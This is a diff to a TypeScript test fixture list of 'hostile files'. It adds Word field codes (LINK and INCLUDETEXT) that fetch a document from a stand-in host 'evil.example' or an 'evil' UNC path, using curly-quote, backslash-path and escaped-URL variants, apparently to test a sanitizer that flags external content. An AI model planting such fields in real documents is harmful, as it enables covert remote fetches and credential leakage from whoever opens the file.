@@ -122,6 +122,9 @@ export const hostileFiles: readonly HostileFile[] = [
     'RD \\f "https://evil.example/x.docx"',
     'DATABASE \\d "\\\\\\\\evil\\\\x.mdb"',
     'LINK Word.Document.12 "file://evil/x.docx" \\a',
+    'LINK Word.Document.12 "file:\\\\\\\\evil\\\\x.docx" \\a',
+    'INCLUDETEXT “https://evil.example/x.docx”',
+    'INCLUDETEXT "h\\ttps://evil.example/x.docx"',
   ].map((code) =>
     replaced(`a field that fetches: ${code}`, ['external-content'], 'word/document.xml', () =>
       document(`<w:p><w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}">${r('shown')}</w:fldSimple></w:p>`),
